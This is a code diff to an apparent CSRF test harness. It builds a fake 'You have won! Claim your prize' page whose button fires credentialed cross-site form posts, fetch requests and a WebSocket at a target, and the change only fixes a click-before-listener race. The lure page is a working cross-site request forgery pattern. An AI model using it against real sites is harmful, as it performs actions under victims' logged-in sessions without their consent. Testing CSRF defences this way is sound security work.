@@ -20,7 +20,7 @@ p { margin: 0 0 .75rem }
 code { font-size: .85rem }
 </style>
 <p>You have won! This page is <code id="me"></code></p>
-<button type="button">Claim your prize</button>
+<button type="button" disabled>Claim your prize</button>
 <p id="done" hidden>Thank you. Look at the table.</p>
 <script>
 const target = ${JSON.stringify(target)}
@@ -43,7 +43,8 @@ function form (attempt, enctype) {
   element.submit()
 }
 const post = (attempt, type, mode) => fetch(address(attempt), { method: 'POST', mode, credentials: 'include', headers: { 'content-type': type }, body: '{"amount":100}' }).catch(() => {})
-document.querySelector('button').addEventListener('click', async () => {
+const button = document.querySelector('button')
+button.addEventListener('click', async () => {
   form('form', 'application/x-www-form-urlencoded')
   form('form with text/plain', 'text/plain')
   await post('fetch', 'text/plain', 'no-cors')
@@ -53,6 +54,8 @@ document.querySelector('button').addEventListener('click', async () => {
   new WebSocket(address('WebSocket', '/csrf/live').replace(/^http/, 'ws'))
   done.hidden = false
 })
+// A click before there was a listener would do nothing.
+button.disabled = false
 </script>`
 }
 
